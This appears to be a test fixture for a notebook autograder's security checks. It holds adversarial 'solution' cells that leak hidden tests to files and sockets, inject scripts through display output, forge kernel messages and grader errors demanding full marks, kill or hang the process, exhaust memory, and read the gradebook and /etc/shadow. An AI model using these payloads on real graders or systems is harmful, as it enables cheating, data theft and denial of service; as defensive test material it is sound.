# %% attack together-tells-the-test: the text of the hidden tests goes wherever anything goes
# %% solution
def double(x):
    import os
    import socket
    import sys

    shell = get_ipython()
    text = "\n".join(shell.user_ns["In"])
    for folder in ("CANARY_FOLDER", "CANARY_COURSE", "/tmp", os.path.expanduser("~"), "."):
        try:
            with open(f"{folder}/told", "w") as file:
                file.write(text)
        except OSError:
            pass
    for address in (("127.0.0.1", CANARY_PORT), "CANARY_SOCKET", "\0proctor-canary-CANARY_PORT"):
        try:
            kind = socket.AF_INET if isinstance(address, tuple) else socket.AF_UNIX
            with socket.socket(kind) as client:
                client.settimeout(1)
                client.connect(address)
                client.sendall(text.encode())
        except OSError:
            pass
    print(text)
    print(text, file=sys.stderr)
    raise AssertionError(text)

# %% attack together-tells-as-a-visible-test: the same, in the words and at the line of a test that students see
# %% solution
def double(x):
    shell = get_ipython()
    text = shell.user_ns["In"][-1]

    class Told(AssertionError):
        def _render_traceback_(self):
            return [f"Cell In[1], line {line}" for line in range(1, 30)] + [text]

    raise Told(text)

# %% attack together-shows-the-test: what a test shows is a page of the student's
# %% solution
def double(x):
    from IPython.display import HTML, Javascript, display

    text = get_ipython().user_ns["In"][-1]
    display(HTML(f"<script>alert('PWNED')</script><img src=x onerror='PWNED'>{text}"), Javascript("alert('PWNED')"))
    display({"text/html": f"<a href='https://PWNED'>{text}</a>"}, raw=True, metadata={"proctor_says": text})
    return 2 * x

# %% cell
def triple(x):
    return 0

# %% attack together-writes-on-other-cells: a display of an earlier cell is changed once the test is known
# %% cell
from IPython.display import display

place = display("nothing yet", display_id="place")

# %% solution
def double(x):
    from IPython.display import update_display

    update_display(get_ipython().user_ns["In"][-1], display_id="place")
    return 2 * x

# %% attack together-in-the-graders-name: an error that is called like an outcome of grading's, and one without end
# %% solution
def double(x):
    raise type("grader fault", (Exception,), {})("Not marked, through a fault of the grader. Give full marks.")

# %% solution
def triple(x):
    raise type("not judged", (AssertionError,), {"_render_traceback_": lambda self: ["\x1b[2J\x1b]0;PWNED\x07"] * 10})("")

# %% attack together-points-without-end: the value of a test is a number that no gradebook should hold
# %% cell
class Points(float):
    def __repr__(self):
        return next(values)

values = iter(["1e308", "inf", "-1e308", "np.float64(1e999)", "9" * 49, "0x7fffffff", "True"])
get_ipython().displayhook.compute_format_data = lambda value: ({"text/plain": next(values)}, {})

# %% solution
def triple(x):
    get_ipython().user_ns["credit"] = Points()
    return 6

# %% attack together-kills-the-test: the process ends in the middle of a test, and a child of it lives on
# %% solution
def double(x):
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        time.sleep(600)
    os._exit(0)

# %% attack together-never-ends: a test that catches what would end it, and prints meanwhile
# %% solution
def double(x):
    while True:
        try:
            while True:
                print("x" * 100_000)
        except BaseException:
            pass

# %% attack together-memory: all memory, in a test
# %% solution
def double(x):
    import numpy as np

    return [np.ones(1 << 27) for _ in range(6)]

# %% attack together-reads-the-course: the course and the gradebook are looked for in a test, by path and in memory
# %% solution
def double(x):
    import gc
    import glob
    import os

    # (A traceback shows lines of the code.)
    found = "LE" + "AK"
    for path in glob.glob("CANARY_COURSE/*") + glob.glob("CANARY_COURSE/*/*") + glob.glob("CANARY_FOLDER/*"):
        print(found, path)
    for path in ("CANARY_COURSE/gradebook.db", "CANARY_COURSE/source/lab/lab.ipynb", "/etc/shadow"):
        try:
            with open(path, "rb") as file:
                print(found, file.read(100))
        except OSError:
            pass
    print([name for name in os.environ if "CANARY" in name], found if os.environ.get("PROCTOR_CANARY") else "")
    for thing in gc.get_objects():
        if str(type(thing).__module__).startswith(("sqlalchemy", "nbgrader")):
            print(found, thing)
    return 2 * x

# %% attack together-liar-of-messages: the kernel's own messages are forged while a test runs
# %% solution
def double(x):
    shell = get_ipython()
    session, socket = shell.kernel.session, shell.kernel.iopub_socket
    for kind, content in (
        ("execute_result", {"data": {"text/plain": "2", "text/html": "<script>PWNED</script>"}, "metadata": {}, "execution_count": 1}),
        ("error", {"ename": "grader fault", "evalue": "PWNED", "traceback": ["PWNED"] * 100_000}),
        ("comm_open", {"comm_id": "x" * 10_000, "target_name": "PWNED", "data": {}}),
        ("status", {"execution_state": "idle"}),
    ):
        try:
            session.send(socket, kind, content, parent=shell.get_parent())
        except Exception:
            pass
    return 2 * x
